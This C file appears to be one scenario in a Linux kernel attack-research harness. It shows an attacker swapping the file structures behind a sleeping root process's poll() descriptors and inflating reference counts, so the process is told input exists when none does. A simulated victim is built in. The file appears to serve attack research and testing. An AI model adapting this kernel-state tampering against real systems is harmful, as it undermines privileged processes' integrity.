// SPDX-License-Identifier: GPL-2.0-only
#include <linux/poll.h>

#include "sleeper.h"

ATTACK("shadow_stack", "sleeping_question", "LOST",
       "A program of root asks whether its helper has answered, and sleeps in poll. On its kernel "
       "stack stands which file is asked; the attacker makes that another one of root's program.",
       "When it has slept, a call that asks files reads its questions from the program again, and "
       "looks up its descriptors.",
       "Root's program is told that there is an answer when there is none.");

#define ASKED 10 /* descriptors of root's program */
#define OTHER 11
#define TRIES 5

static bool fire(void)
{
	const uint64_t task = victim_task(own_task());
	const long file = call3(__NR_open, (long)FIFO, O_WRONLY, 0);
	const uint64_t bytes = 1;

	call3(__NR_write, file, (long)&bytes, sizeof(bytes)); /* OTHER has something to say */
	/* Root's program gives a reference to it back for each question. */
	poke_references(file_state(task, OTHER) + member("file_state.references"), 1000);
	for (int i = 0; i < TRIES && !victim_has_ended(); i++) {
		await(is_asleep(task) || victim_has_ended());
		sleeper_exchange(file_struct(task, ASKED), file_struct(task, OTHER));
		await_rounds(1);
	}
	return false;
}

static void victim(void)
{
	const long other = make_fifo();
	int pipe[2];

	call2(__NR_pipe2, (long)pipe, 0);
	call2(__NR_dup2, other, OTHER);
	call2(__NR_dup2, pipe[0], ASKED);
	for (;;) {
		struct pollfd question = { .fd = ASKED, .events = POLLIN };

		victim_round();
		if (call3(__NR_poll, (long)&question, 1, 100) != 0)
			victim_is_beaten();
	}
}
